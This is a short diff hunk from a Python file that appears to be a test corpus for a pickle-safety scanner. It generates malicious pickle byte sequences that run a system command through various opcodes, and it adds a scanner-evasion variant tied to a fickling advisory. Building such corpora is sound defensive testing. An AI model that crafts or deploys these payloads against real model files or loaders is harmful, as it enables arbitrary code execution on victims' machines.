@@ -40,6 +40,7 @@ def opcodes(command: str) -> dict[str, bytes]:
         "NEWOBJ_EX": whole(SYSTEM, b"(", argument, b"t}\x92"),
         "NEWOBJ of numpy.memmap": whole(by_lines("numpy", "memmap"), b"(", argument, b"t\x81"),
         "BUILD": whole(model, b")\x81", SYSTEM, b"b"),
+        "BUILD behind a call (fickling GHSA-mhc9-48gj-9gp3)": whole(call(SYSTEM, argument), b"}b0}"),
         "BUILD with __setstate__": whole(model, b")\x81}(", text("__setstate__"), SYSTEM, b"ub", argument, b"b"),
         "EXT1": whole(b"\x82\x01", argument, b"\x85R"),
         "EXT2": whole(b"\x83\x01\x00", argument, b"\x85R"),
